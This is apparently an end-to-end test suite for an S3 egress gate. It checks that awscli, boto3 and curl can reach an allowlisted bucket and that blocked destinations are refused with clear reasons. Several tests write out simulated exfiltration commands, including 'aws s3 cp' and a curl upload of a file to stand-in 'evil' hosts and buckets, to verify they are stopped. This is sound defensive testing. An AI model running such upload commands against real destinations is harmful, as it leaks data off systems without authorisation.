"""The real awscli, boto3 and curl through the gate: what passes, and what their users read when it does not."""

import asyncio
import hashlib
import sys
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from e2e.process import GateProcess, run_process
from e2e.rig import EVIL, GOOD

pytestmark = pytest.mark.e2e

SECONDS = 60.0  # awscli takes about a second to start on an idle machine
AWS = Path(sys.executable).parent / "aws"
BODY = bytes(range(256)) * 4096 * 20  # 20 MiB: awscli sends it in parts


@pytest.fixture
async def gate(tmp_path: Path) -> AsyncIterator[GateProcess]:
    async with run_process(tmp_path) as running:
        (tmp_path / "small").write_bytes(b"hello")
        (tmp_path / "big").write_bytes(BODY)
        yield running


async def run(gate: GateProcess, *argv: str) -> tuple[int, str]:
    """Exit code and everything printed."""
    environment = {
        **gate.environment(),
        "CURL_CA_BUNDLE": str(gate.directory / "ca.pem"),
        "PYTHONWARNINGS": "ignore",
    }
    process = await asyncio.create_subprocess_exec(
        *argv,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
        env=environment,
        cwd=gate.directory,
    )
    output, _ = await asyncio.wait_for(process.communicate(), SECONDS)
    assert process.returncode is not None
    return process.returncode, output.decode()


async def test_awscli_uploads_and_is_told_why_not(gate: GateProcess) -> None:
    code, output = await run(
        gate, str(AWS), "s3api", "put-object", "--bucket", "good-bucket", "--key", "k", "--body", "small"
    )
    assert code == 0, output
    code, output = await run(gate, str(AWS), "s3", "cp", "big", "s3://evil-bucket/k")
    assert code == 1
    assert (
        "An error occurred (AccessDenied) when calling the CreateMultipartUpload operation: s3gate: "
        in output
    )
    assert "BUCKET_NOT_LISTED" in output
    code, output = await run(gate, str(AWS), "s3", "cp", "small", "s3://evil-bucket/k")
    assert "An error occurred (AccessDenied) when calling the PutObject operation: s3gate: " in output
    assert gate.s3.connections[0].bodies[0][0] >= len(b"hello")
    assert len(gate.s3.heads) == 1


@pytest.mark.parametrize(
    "words",
    [
        pytest.param(("sts", "get-caller-identity"), id="query"),
        pytest.param(("ec2", "describe-regions"), id="ec2"),
        pytest.param(("logs", "describe-log-groups"), id="json"),
    ],
)
async def test_awscli_is_told_why_not_by_a_service_that_is_not_s3(
    gate: GateProcess, words: tuple[str, ...]
) -> None:
    """A profile with a role asks STS first: `Unknown` would tell its user nothing."""
    code, output = await run(gate, str(AWS), *words)
    assert code != 0
    assert "s3gate: AWS name" in output
    assert "is not on the egress allowlist (HOST_NOT_LISTED); decision " in output
    assert "Unknown" not in output


BOTO3 = """
import boto3, sys
from botocore.config import Config
s3 = boto3.client("s3", config=Config(retries={"max_attempts": 1}))
s3.put_object(Bucket="good-bucket", Key="a/../b//c", Body=open("big", "rb"))
print(s3.get_object(Bucket="good-bucket", Key="k")["Body"].read()[:10])
s3.head_object(Bucket="good-bucket", Key="k")
path = boto3.client("s3", config=Config(s3={"addressing_style": "path"}))
print(path.get_object(Bucket="good-bucket", Key="k")["Body"].read()[:10])
for call in (s3.head_object, s3.get_object, path.get_object):
    try:
        call(Bucket="evil-bucket", Key="k")
    except s3.exceptions.ClientError as error:
        print(error)
"""


async def test_boto3_uploads_downloads_and_is_told_why_not(gate: GateProcess) -> None:
    code, output = await run(gate, sys.executable, "-c", BOTO3)
    assert code == 0, output
    lines = output.strip().splitlines()
    assert lines[:2] == ["b'hello from'"] * 2
    assert lines[2] == "An error occurred (403) when calling the HeadObject operation: Forbidden"
    assert all("(AccessDenied) when calling the GetObject operation: s3gate: " in line for line in lines[3:5])
    upload = gate.s3.connections[0].bodies[0]
    assert upload[0] > len(BODY)  # aws-chunked adds its own framing
    assert b"/a/../b//c" in gate.s3.heads[0]


async def test_curl_uploads_byte_for_byte_and_downloads(gate: GateProcess) -> None:
    code, output = await run(
        gate, "curl", "-sS", "-T", "big", f"https://{GOOD}/k", "-o", "answer", "-w", "%{http_code}"
    )
    assert (code, output) == (0, "200")
    assert gate.s3.connections[0].bodies == [(len(BODY), hashlib.sha256(BODY).hexdigest())]
    code, output = await run(gate, "curl", "-sS", f"https://{GOOD}/k")
    assert (code, output) == (0, "hello from /k")


@pytest.mark.parametrize("expect", ["Expect: 100-continue", "Expect:"], ids=["with Expect", "without Expect"])
async def test_curl_reads_its_refusal_without_uploading(gate: GateProcess, expect: str) -> None:
    code, output = await run(
        gate,
        "curl",
        "-sS",
        "-T",
        "big",
        "-H",
        expect,
        f"https://{EVIL}/k",
        "-w",
        " %{http_code} %{size_upload} %{time_total}",
    )
    assert code == 0, output
    assert output.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<Error><Code>AccessDenied</Code>')
    status, uploaded, seconds = output.split()[-3:]
    assert status == "403"
    assert int(uploaded) == 0 if expect.endswith("continue") else int(uploaded) < len(BODY)
    assert float(seconds) < 1.0


async def test_curl_shows_a_refused_connect(gate: GateProcess) -> None:
    code, output = await run(gate, "curl", "-sS", "-v", "https://www.evil.example/")
    assert code == 56
    assert "HTTP/1.1 403 HOST_NOT_LISTED" in output


async def test_sigterm_ends_it_cleanly(gate: GateProcess) -> None:
    gate.process.terminate()
    assert await asyncio.wait_for(gate.process.wait(), 10) == 0
